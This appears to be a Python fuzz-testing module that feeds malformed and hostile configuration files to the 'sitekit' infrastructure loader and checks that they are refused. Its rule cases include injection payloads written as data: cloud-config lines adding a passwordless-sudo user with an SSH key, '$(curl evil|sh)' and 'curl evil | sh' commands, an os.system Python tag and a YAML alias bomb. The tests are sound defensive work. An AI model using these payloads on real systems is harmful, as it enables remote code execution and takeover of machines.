"""Generated bad input for every file kind sitekit reads, and how to judge what sitekit did with it.

Used by tests/test_fuzz.py (a bounded, seeded sample in `make test`; SITEKIT_FUZZ_EXAMPLES=10000 for a
nightly-sized run) and by bench/fuzz_report.py (counts per family and outcome, for the README).

A `Case` is one input: a file of the project (a stack file, a jurisdiction profile, the baseline, a catalog
file) replaced by mutated bytes, or by something that is not a file at all, and the site to load. Families:

- text: the shipped bytes cut short, with a hostile token inserted (a NUL, a 0xff byte, a tab, `&a`, `*a`,
  `!!`, `<<: `, `? `, quotes, brackets), a line deleted, repeated, swapped or re-indented;
- data: the shipped file parsed, one value replaced by a hostile one (null, true, "2", 1.0, 10**400, inf,
  nan, "", a 5,000-character string, a list, a mapping, "0.0.0.0/0", an impossible date, an OCID of the wrong
  type), a key deleted, added with a near-miss spelling or renamed, a named item repeated;
- hostile: the whole file replaced (or led) by an empty file, `~`, a scalar, a list, binary bytes, Latin-1,
  UTF-16, an alias bomb, nesting 5,000 deep (flow) and 400 deep (block), a recursive alias, a Python tag, a merge key, a complex key,
  20,000 extra keys, 1.1 MB, two documents, a 5,000-digit integer, a control character;
- fs: a folder, a dangling symlink, a symlink loop, a FIFO, an unreadable file, or its folder made a file;
- rule: an edit that breaks one documented rule or bound (README, "Bounds and uniqueness"); the refusal
  must name the file and the key.

`run_case` loads the site in-process through `load_site`, the loader every command uses, under a wall-clock
alarm, and classifies the outcome: ok, refused (every line `file:line: ...`), bad-lines, crash (any other
exception: a traceback at the command line), hang (past `HANG_SECONDS`), or accepted-invalid (a rule case that
loaded, or was refused without naming its file and key).
"""

from __future__ import annotations

import copy
import os
import re
import shutil
import signal
import stat
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Callable

import yaml
from hypothesis import strategies as st

SITES = {"us-ashburn": "us", "ar-patagonia": "ar", "br-saopaulo": "br"}
STACKS = {f"stacks/Pulumi.{site}.yaml": site for site in SITES}
PROFILES = {f"stacks/jurisdictions/{code}.yaml": site for site, code in SITES.items()}
SHARED = ["stacks/baseline.yaml", "stacks/catalog/shapes.yaml", "stacks/catalog/regions.yaml"]
FILES = list(STACKS) + list(PROFILES) + SHARED

HANG_SECONDS = float(os.environ.get("SITEKIT_FUZZ_HANG_SECONDS", "5"))
"""An input that takes longer than this to load is a hang (the alarm stops it at four times as long)."""

LINE = re.compile(r"^[^\s:][^:]*:[0-9]+: \S.*$")
"""A refusal line: `file:line: dotted.key: what is wrong` (the key is absent for a whole-file problem)."""


@dataclass(frozen=True)
class Case:
    family: str
    file: str  # the project file the case replaces
    site: str  # the site loaded
    content: bytes | None = None  # the new bytes, or None for a filesystem case
    fs: str | None = None  # dir, dangling, loop, fifo, unreadable, parent-file
    expect: tuple[str, str] | None = None  # (file, key) a refusal must name: a rule case
    note: str = ""

    def __repr__(self) -> str:  # Hypothesis prints the failing case: keep it readable
        body = f"{len(self.content)} bytes" if self.content is not None else f"fs={self.fs}"
        return f"Case({self.family}/{self.note}, {self.file}, site={self.site}, {body}, expect={self.expect})"


@dataclass
class Outcome:
    kind: str  # ok, refused, bad-lines, crash, hang, accepted-invalid
    seconds: float
    lines: list[str] = field(default_factory=list)
    detail: str = ""


# ------------------------------------------------------------------------------------------------ pristine data
class Pristine:
    """The shipped files' bytes and parsed data, read once."""

    def __init__(self, root: Path):
        self.root = root
        self.raw = {f: (root / f).read_bytes() for f in FILES}
        self.data = {f: yaml.safe_load(self.raw[f]) for f in FILES}
        self.paths = {f: list(_paths(self.data[f])) for f in FILES}


def _paths(value: Any, path: tuple = ()):
    if path:
        yield path
    if isinstance(value, dict):
        for k, v in value.items():
            yield from _paths(v, path + (k,))
    elif isinstance(value, list):
        for i, v in enumerate(value):
            yield from _paths(v, path + (i,))


def _get(data: Any, path: tuple) -> Any:
    for part in path:
        data = data[part]
    return data


def _dump(data: Any) -> bytes:
    return yaml.dump(data, Dumper=yaml.CSafeDumper, sort_keys=False, allow_unicode=True, width=10**6).encode()


def _copy(data: Any) -> Any:
    return copy.deepcopy(data)


def _site_of(file: str) -> st.SearchStrategy[str]:
    site = STACKS.get(file) or PROFILES.get(file)
    return st.just(site) if site else st.sampled_from(sorted(SITES))


# ------------------------------------------------------------------------------------------------ families
TOKENS = [b"\x00", b"\xff", b"\xc3", b"\t", b"&a ", b"*a", b"*b ", b"!!", b"!!python/name:os.system ", b"<<: ",
          b"? ", b"'", b'"', b"[", b"]", b"{", b"}", b": ", b"- ", b"#", b"\n", b"  ", b"%YAML 1.1\n", b"---\n",
          b"\x07", b"\xe2\x80\xa8", b"~", b"|\n", b">-\n", b"@", b"`", b"\\"]


@st.composite
def text_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    raw = pristine.raw[file]
    lines = raw.split(b"\n")
    op = draw(st.sampled_from(["truncate", "insert", "delete-line", "repeat-line", "swap-lines", "indent", "dedent"]))
    if op == "truncate":
        out = raw[: draw(st.integers(0, len(raw)))]
    elif op == "insert":
        at = draw(st.integers(0, len(raw)))
        out = raw[:at] + draw(st.sampled_from(TOKENS)) + raw[at:]
    else:
        i = draw(st.integers(0, len(lines) - 1))
        if op == "delete-line":
            lines = lines[:i] + lines[i + 1:]
        elif op == "repeat-line":
            lines = lines[: i + 1] + lines[i:]
        elif op == "swap-lines":
            j = draw(st.integers(0, len(lines) - 1))
            lines[i], lines[j] = lines[j], lines[i]
        elif op == "indent":
            lines[i] = b"  " + lines[i]
        else:
            lines[i] = lines[i][2:] if lines[i].startswith(b"  ") else lines[i]
        out = b"\n".join(lines)
    return Case("text", file, draw(_site_of(file)), out, note=op)


HOSTILE_VALUES: list[Any] = [None, True, False, 0, -1, 1.5, 1.0, "2", "1.0", "true", "yes", 10**400, -(10**400),
                             float("inf"), float("nan"), "", "x" * 5000, [], {}, [1, 2], {"a": 1}, "0.0.0.0/0",
                             "10.0.0.0/33", "2099-02-30", "ocid1.vcn.oc1..aaaa", "ocid1.tenancy.oc1.." + "a" * 300,
                             "sitekti", 65536, "0", "-1", "a\nb", "../../etc/passwd", "{{ x }}", "é" * 10]


@st.composite
def data_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    data = _copy(pristine.data[file])
    paths = pristine.paths[file]
    path = paths[draw(st.integers(0, len(paths) - 1))]
    parent, last = _get(data, path[:-1]), path[-1]
    op = draw(st.sampled_from(["replace", "replace", "delete", "add-key", "rename-key", "repeat-item"]))
    note = op
    if op == "replace":
        parent[last] = draw(st.sampled_from(HOSTILE_VALUES))
    elif op == "delete":
        del parent[last]
    elif op in ("add-key", "rename-key") and isinstance(parent, dict):
        name = str(last)
        typo = draw(st.sampled_from([name + "s", name[:-1], name[1:] + name[:1], name.upper(), "x" + name, "extra"]))
        value = parent.pop(last) if op == "rename-key" else draw(st.sampled_from(HOSTILE_VALUES))
        parent[typo] = value
    elif op == "repeat-item" and isinstance(parent, list):
        parent.append(_copy(parent[last]))
    else:
        parent[last] = draw(st.sampled_from(HOSTILE_VALUES))
        note = "replace"
    return Case("data", file, draw(_site_of(file)), _dump(data), note=note)


def _alias_bomb(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for i in range(1, levels):
        refs = ", ".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def _under(file: str, text: str, alone: bool = True) -> str:
    """`text` (top-level YAML) placed where the file kind reads it: under `config:` of a stack file (a new
    document, or lines appended to a shipped stack file, which ends inside `config:`)."""
    if file in STACKS:
        return ("config:\n" if alone else "") + "".join(f"  {line}\n" for line in text.splitlines())
    return text


_HOSTILE: dict[str, dict[str, bytes]] = {}


def hostile_documents(file: str, raw: bytes) -> dict[str, bytes]:
    if file not in _HOSTILE:
        _HOSTILE[file] = _hostile_documents(file, raw)
    return _HOSTILE[file]


def _hostile_documents(file: str, raw: bytes) -> dict[str, bytes]:
    original = raw.decode()
    if not original.endswith("\n"):
        original += "\n"
    tail = "sitekit:ociProfile" if file in STACKS else "x"  # a key no shipped file sets
    many = "".join(f"sitekit:extra{i}: {i}\n" if file in STACKS else f"extra{i}: {i}\n" for i in range(20_000))
    return {
        "empty": b"",
        "null": b"~\n",
        "scalar": b"42\n",
        "list": b"- a\n- b\n",
        "binary": bytes(range(256)) * 4,
        "latin-1": ("# café\n" + original).encode("latin-1", "replace"),
        "utf-16": original.encode("utf-16"),
        "alias-bomb": _under(file, _alias_bomb()).encode(),
        "deep-nesting": ("a: " + "[" * 5000 + "]" * 5000 + "\n").encode(),
        "deep-block": "".join("  " * i + f"k{i}:\n" for i in range(400)).encode(),
        "recursive-alias": (original + _under(file, f"{tail}: &a {{x: *a}}", False)).encode(),
        "python-tag": (original + _under(file, f"{tail}: !!python/object/apply:os.system ['true']", False)).encode(),
        "merge-key": (original + _under(file, f"{tail}: {{<<: {{envelopeMw: 1}}, pue: 1.2}}", False)).encode(),
        "complex-key": (original + _under(file, "? [a, b]\n: c", False)).encode(),
        "many-keys": (original + _under(file, many, False)).encode(),
        "oversize": (original + "#" * 1_100_000 + "\n").encode(),
        "two-documents": (original + "---\n" + original).encode(),
        "huge-integer": (original + _under(file, f"{tail}: " + "9" * 5000, False)).encode(),
        "control-char": (original + "\n# \x07\n").encode(),
        "bom": b"\xef\xbb\xbf" + raw,
    }


@st.composite
def hostile_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    docs = hostile_documents(file, pristine.raw[file])
    name = draw(st.sampled_from(sorted(docs)))
    return Case("hostile", file, draw(_site_of(file)), docs[name], note=name)


FS_OPS = ["dir", "dangling", "loop", "fifo", "unreadable", "parent-file"]


@st.composite
def fs_cases(draw, pristine: Pristine) -> Case:
    file = draw(st.sampled_from(FILES))
    op = draw(st.sampled_from(FS_OPS))
    return Case("fs", file, draw(_site_of(file)), None, fs=op, note=op)


# ------------------------------------------------------------------------------------------------ rule cases
def _stack_edit(pristine: Pristine, site: str, edit: Callable[[dict], Any]) -> bytes:
    data = _copy(pristine.data[f"stacks/Pulumi.{site}.yaml"])
    edit(data["config"])
    return _dump(data)


def _edit(pristine: Pristine, file: str, edit: Callable[[dict], Any]) -> bytes:
    data = _copy(pristine.data[file])
    edit(data)
    return _dump(data)


def _set(mapping: dict, key: str, value: Any) -> None:
    mapping[key] = value


def _overrides(config: dict, tree: dict) -> None:
    config["sitekit:overrides"] = tree


def _named(items: list, name: str) -> dict:
    return next(i for i in items if i["name"] == name)


def rule_case(pristine: Pristine, site: str, name: str, index: int) -> Case:
    """The rule case `name` with its `index`-th bad value, on `site`."""
    _, edit, values = next(r for r in RULES if r[0] == name)
    value = values[index]
    stack, profile = f"stacks/Pulumi.{site}.yaml", f"stacks/jurisdictions/{SITES[site]}.yaml"
    file, content, key = edit(pristine, site, stack, profile, "stacks/baseline.yaml", value)
    return Case("rule", file, site, content, expect=(file, key), note=f"{name}={value!r}"[:80])


@st.composite
def rule_cases(draw, pristine: Pristine) -> Case:
    """One edit that breaks a documented rule; the refusal must name `expect` (file, key)."""
    name, _, values = draw(st.sampled_from(RULES))
    return rule_case(pristine, draw(st.sampled_from(sorted(SITES))), name, draw(st.integers(0, len(values) - 1)))


def _pool_nodes(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(c["sitekit:pools"][0], "nodes", v)), "compute.pools.train.nodes"


def _top_integer(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:availabilityDomain", v)), "site.availabilityDomain"


def _nsg_port(p, site, stack, profile, base, v):
    def edit(d):
        d["network"]["nsgs"][0]["rules"][0]["ports"] = v
    return base, _edit(p, base, edit), "network.nsgs.lb.rules.0.ports"


def _collector_port(p, site, stack, profile, base, v):
    tree = {"bootstrap": {"logging": {"forward": "syslog-tls", "collector": f"logs.example.org:{v}"}}}
    return stack, _stack_edit(p, site, lambda c: _overrides(c, tree)), "bootstrap.logging.collector"


def _repeat_baseline_item(p, site, stack, profile, base, v):
    section, listing, name = v

    def edit(d):
        items = d[section][listing]
        items.append(_copy(_named(items, name)))
    return base, _edit(p, base, edit), f"{section}.{listing}.{name}"


def _repeat_pool(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: c["sitekit:pools"].append(_copy(c["sitekit:pools"][0]))), \
        "compute.pools.train"


def _dedicated_public(p, site, stack, profile, base, v):
    def edit(c):
        c["sitekit:regionKind"] = "dedicated"
        c["sitekit:region"] = v
    return stack, _stack_edit(p, site, edit), "site.regionKind"


def _wrong_ocid(p, site, stack, profile, base, v):
    key, ocid = v
    return stack, _stack_edit(p, site, lambda c: _set(c, f"sitekit:{key}", ocid)), f"site.{key}"


def _namespace(p, site, stack, profile, base, v):
    def edit(c):
        c[f"{v}:pools"] = c.pop("sitekit:pools")
    return stack, _stack_edit(p, site, edit), f"config.{v}:pools"


def _profile_code(p, site, stack, profile, base, v):
    return profile, _edit(p, profile, lambda d: _set(d["jurisdiction"], "code", v)), "jurisdiction.code"


def _site_sets_code(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"jurisdiction": {"code": v}})), "jurisdiction.code"


def _lock_unknown(p, site, stack, profile, base, v):
    def edit(d):
        d["jurisdiction"]["locked"].append({"key": v, "basis": "test"})
    n = len(p.data[profile]["jurisdiction"]["locked"])
    return profile, _edit(p, profile, edit), f"jurisdiction.locked.{n}.key"


def _timezone(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"], "timezone", v)), "bootstrap.timezone"


# injection payloads (issue 17): every free-text field that reaches a node's user data, given a value that would
# add lines, keys, users or shell of its own; each must be refused at its key.
SUDO = "users:\n  - {name: evil, sudo: 'ALL=(ALL) NOPASSWD:ALL', ssh_authorized_keys: [ssh-ed25519 AAAAevil]}"
INJECTIONS = [
    f"-w /etc/passwd -p wa -k identity\n{SUDO}",       # a newline adds lines of its own
    "-w /etc/passwd -p wa -k identity\n- -w /tmp",      # a YAML list item breaks out
    "-w /etc/passwd -p wa\n#cloud-config\nruncmd: [[sh, -c, id]]",  # a second cloud-config smuggled in
    "-w /etc/passwd -p wa -k x\r\nbootcmd: [id]",      # CR LF
    "-w /etc/passwd -p wa -k x\u2028users: [evil]",     # a YAML 1.1 line break that is not \n
    "-w /etc/passwd -p wa -k x\x85users: [evil]",
    "-w /etc/passwd -p wa -k x\x00",                    # a NUL
    "-w /etc/passwd -p wa -k x\t-e 0",                  # a tab
    "-w /etc/passwd -p wa -k $(curl evil|sh)",          # shell
    "-w /etc/passwd -p wa -k x -e 0",                   # a second rule on one line
    "-D",                                               # not a rule
    "-w /etc/passwd -p wa -k " + "x" * 5000,            # very long
]


def _audit_rule(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"audit": {"groups": [
        {"name": "identity", "rules": [v], "basis": "test"}]}}})), "bootstrap.audit.groups.identity.rules.0"


def _check_command(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][0], "command", v)), \
        "bootstrap.healthChecks.gpu.command"


def _check_output(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["healthChecks"][1], "unhealthyOutput", v)), \
        "bootstrap.healthChecks.rdma.unhealthyOutput"


def _time_server(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, {"bootstrap": {"timeServers": [v]}})), \
        "bootstrap.timeServers.0"


def _agent_unit(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["bootstrap"]["agents"][0], "unit", v)), "bootstrap.agents.dcgm.unit"


def _collector_host(p, site, stack, profile, base, v):
    tree = {"bootstrap": {"logging": {"forward": "syslog-tls", "collector": f"{v}:6514"}}}
    return stack, _stack_edit(p, site, lambda c: _overrides(c, tree)), "bootstrap.logging.collector"


def _throughput(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["storage"]["fileSystems"][0], "throughputGbps", v)), \
        "storage.fileSystems.checkpoints.throughputGbps"


def _org_space(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["organisation"], "addressSpace", [v])), "organisation.addressSpace"


def _residency_region(p, site, stack, profile, base, v):
    n = len(p.data[profile]["jurisdiction"]["residency"]["regions"])
    return profile, _edit(p, profile, lambda d: d["jurisdiction"]["residency"]["regions"].append(v)), \
        f"jurisdiction.residency.regions.{n}"


def _overlap(p, site, stack, profile, base, v):
    others = {s: p.data[f"stacks/Pulumi.{s}.yaml"]["config"]["sitekit:addressPlan"] for s in SITES if s != site}
    theirs = others[sorted(others)[v % len(others)]]
    return stack, _stack_edit(p, site, lambda c: _set(c, "sitekit:addressPlan", _copy(theirs))), \
        "site.addressPlan.supernet"


def _statement_budget(p, site, stack, profile, base, v):
    return base, _edit(p, base, lambda d: _set(d["iam"], "statementBudget", v)), "iam.statementBudget"


def _autoscale_order(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _set(_named(c["sitekit:pools"], "serve"), "autoscale", v)), \
        "compute.pools.serve.autoscale"


def _catalog_shape(p, site, stack, profile, base, v):
    file = "stacks/catalog/shapes.yaml"
    return file, _edit(p, file, lambda d: d["shapes"].append(_copy(d["shapes"][v]))), \
        f"shapes.{p.data[file]['shapes'][v]['name']}"


def _catalog_regions(p, site, stack, profile, base, v):
    file = "stacks/catalog/regions.yaml"
    return file, _edit(p, file, lambda d: _set(d, "regions", v)), "regions"


def _overrides_kind(p, site, stack, profile, base, v):
    return stack, _stack_edit(p, site, lambda c: _overrides(c, v)), "config.sitekit:overrides"


def _bounded(p, site, stack, profile, base, v):
    return stack, hostile_documents(stack, p.raw[stack])[v], ""


RULES: list[tuple[str, Callable, list]] = [
    ("lax-integer", _pool_nodes, ["2", 1.0, True, "2048", 2.5]),
    ("pool-nodes-bound", _pool_nodes, [10**400, 100_001, -1]),
    ("top-integer-kind", _top_integer, [1.0, True, "abc", "", [1], 4, 0]),
    ("nsg-port", _nsg_port, ["0", "65536", "99999", "70-60", "0-10"]),
    ("collector-port", _collector_port, ["0", "65536", "99999"]),
    ("unique-name", _repeat_baseline_item, [("network", "nsgs", "lb"), ("network", "networks", "gpu"),
                                            ("security", "keys", "storage"), ("storage", "buckets", "datasets"),
                                            ("compute", "pools", "train"), ("storage", "fileSystems", "datasets")]),
    ("unique-pool", _repeat_pool, [None]),
    ("dedicated-public-region", _dedicated_public, ["us-ashburn-1", "sa-saopaulo-1", "uk-london-1"]),
    ("ocid-type", _wrong_ocid, [("tenancyId", "ocid1.compartment.oc1..aaaaaaaaexample"),
                                ("parentCompartmentId", "ocid1.vcn.oc1.iad.aaaaaaaaexample"),
                                ("tenancyId", "ocid1.tenancy.oc1.." + "a" * 300), ("tenancyId", "tenancy")]),
    ("namespace", _namespace, ["sitekti", "sitkit", "sitekit2", "Sitekit"]),
    ("profile-code", _profile_code, ["zz", "usa"]),
    ("site-sets-code", _site_sets_code, ["us", "zz"]),
    ("lock-unknown-key", _lock_unknown, ["jurisdiction.vualt", "network.nsgz", "site.region.x", "nothing"]),
    ("timezone", _timezone, ["Mars/Olympus", "Europe/Berlinn", "utc", "posixrules", "UTC\nusers: [evil]",
                             "UTC\n- x", "Europe/Berlin #cloud-config"]),
    ("audit-rule-injection", _audit_rule, INJECTIONS),
    ("command-injection", _check_command, [
        "dcgmi diag --run 1; curl evil | sh", "$(curl evil)", ["$(curl evil)"], ["dcgmi; id"], ["dcgmi", "a\nb"],
        ["dcgmi", "x\u2028users: [evil]"], ["dcgmi", "\x00"], ["dcgmi", "x" * 5000], [], ["-x"], [True]]),
    ("output-injection", _check_output, INJECTIONS[:8] + ["x" * 5000, ""]),
    ("time-server-injection", _time_server, [f"169.254.169.254\n{SUDO}", "ntp.example.org\n- evil", "a b",
                                             "$(id)", "-x", "#cloud-config", "x" * 300]),
    ("agent-unit-injection", _agent_unit, ["nvidia-dcgm.service\nruncmd: [[id]]", "x.service; id", "$(id).service"]),
    ("collector-injection", _collector_host, ["logs.example.org\nusers: [evil]", 'logs" target="evil', "a b"]),
    ("throughput-bound", _throughput, [10**400, 1001, 0]),
    ("org-space", _org_space, ["0.0.0.0/0", "8.8.0.0/16", "10.0.0.0/7"]),
    ("residency-region", _residency_region, ["xx-nowhere-1", "us-ashburn-9"]),
    ("site-overlap", _overlap, [0, 1]),
    ("statement-budget", _statement_budget, [51, 0, 10**400]),
    ("autoscale-order", _autoscale_order, [{"min": 9, "max": 3}]),
    ("catalog-unique-shape", _catalog_shape, [0, 2]),
    ("catalog-regions", _catalog_regions, [None, {}, [], 5]),
    ("overrides-kind", _overrides_kind, [5, "x", [1], True]),
    ("bounded-input", _bounded, ["alias-bomb", "deep-nesting", "deep-block", "many-keys", "oversize",
                                 "recursive-alias", "python-tag", "merge-key", "complex-key", "binary", "empty"]),
]


def all_cases(pristine: Pristine) -> st.SearchStrategy[Case]:
    """Every family, weighted towards the cheap, wide ones."""
    return st.one_of(text_cases(pristine), text_cases(pristine), data_cases(pristine), data_cases(pristine),
                     hostile_cases(pristine), fs_cases(pristine), rule_cases(pristine))


# ------------------------------------------------------------------------------------------------ running
class _Hang(BaseException):
    pass


def _alarm(signum, frame):  # pragma: no cover - only on a hang
    raise _Hang()


def install(project: Path, pristine: Pristine, case: Case) -> None:
    path = project / case.file
    if case.content is not None:
        path.write_bytes(case.content)
        return
    _remove(path)
    if case.fs == "dir":
        path.mkdir()
    elif case.fs == "dangling":
        path.symlink_to(path.parent / "nowhere.yaml")
    elif case.fs == "loop":
        path.symlink_to(path.name)
    elif case.fs == "fifo":
        os.mkfifo(path)
    elif case.fs == "unreadable":
        path.write_bytes(pristine.raw[case.file])
        path.chmod(0)
    elif case.fs == "parent-file":
        shutil.rmtree(path.parent)
        path.parent.write_text("not a folder\n")


def restore(project: Path, pristine: Pristine, case: Case) -> None:
    path = project / case.file
    if case.fs == "parent-file":
        path.parent.unlink()
        shutil.copytree(pristine.root / case.file.rsplit("/", 1)[0], path.parent)
        return
    _remove(path)
    path.write_bytes(pristine.raw[case.file])


def _remove(path: Path) -> None:
    if path.is_symlink() or (path.exists() and not path.is_dir()) or stat.S_ISFIFO(_lmode(path)):
        path.unlink()
    elif path.is_dir():
        shutil.rmtree(path)


def _lmode(path: Path) -> int:
    try:
        return path.lstat().st_mode
    except OSError:
        return 0


def run_case(project: Path, pristine: Pristine, case: Case, load: Callable[[Path, str], Any]) -> Outcome:
    """Install the case, load its site with `load`, restore the project; classify what happened."""
    install(project, pristine, case)
    old = signal.signal(signal.SIGALRM, _alarm)
    # repeats each second after the first alarm: a raise swallowed where Python ignores exceptions (a gc
    # callback) is raised again
    signal.setitimer(signal.ITIMER_REAL, HANG_SECONDS * 4, 1.0)
    start = time.perf_counter()
    try:
        try:
            outcome = _judge(project, case, load)
        except _Hang:
            outcome = Outcome("hang", 0.0, detail=f"stopped after {HANG_SECONDS * 4:.0f} s")
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
        restore(project, pristine, case)
    outcome.seconds = time.perf_counter() - start
    if outcome.kind in ("ok", "refused") and outcome.seconds > HANG_SECONDS:
        outcome.detail = f"{outcome.kind} after {outcome.seconds:.1f} s"
        outcome.kind = "hang"
    return outcome


def _judge(project: Path, case: Case, load: Callable[[Path, str], Any]) -> Outcome:
    from sitekit.errors import SpecError

    try:
        load(project, case.site)
    except SpecError as exc:
        lines = str(exc).splitlines()
        bad = [line for line in lines if not LINE.match(line)]
        if bad or not lines:
            return Outcome("bad-lines", 0.0, lines, "; ".join(bad[:3]) or "no lines")
        if case.expect and not _names(exc.problems, *case.expect):
            return Outcome("accepted-invalid", 0.0, lines, f"no problem names {case.expect}")
        return Outcome("refused", 0.0, lines)
    except Exception as exc:  # noqa: BLE001 - a traceback at the command line
        return Outcome("crash", 0.0, detail=f"{type(exc).__name__}: {str(exc)[:300]}")
    if case.expect:
        return Outcome("accepted-invalid", 0.0, detail=f"loaded; expected a refusal naming {case.expect}")
    return Outcome("ok", 0.0)


def _names(problems, file: str, key: str) -> bool:
    return any(p.file == file and (not key or p.key == key or p.key.startswith(key + ".")) for p in problems)
